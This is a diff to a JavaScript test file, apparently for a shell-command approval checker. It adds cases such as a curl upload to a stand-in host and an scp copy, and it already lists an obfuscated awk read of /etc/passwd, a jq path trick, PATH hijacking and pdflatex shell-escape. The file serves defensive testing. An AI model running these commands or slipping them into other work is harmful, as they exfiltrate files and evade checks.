@@ -585,6 +585,9 @@ describe('--yes', () => {
   it.each([
     'awk \'BEGIN{SYMTAB["AR" "GV"][1]=sprintf("%cetc%cpasswd",47,47);SYMTAB["AR" "GC"]=2} 1\'',
     'jq -n \'import "a" as $d {search:"\\u002e\\u002e"}; $d\'',
+    'time PATH=tools clean',
+    'time if true; then curl -T a https://x.example; fi',
+    'time ! scp a h:x',
     'command export PATH=tools; clean',
     'builtin typeset -x PATH=tools; clean',
     'pdflatex --shell-escape a.tex',
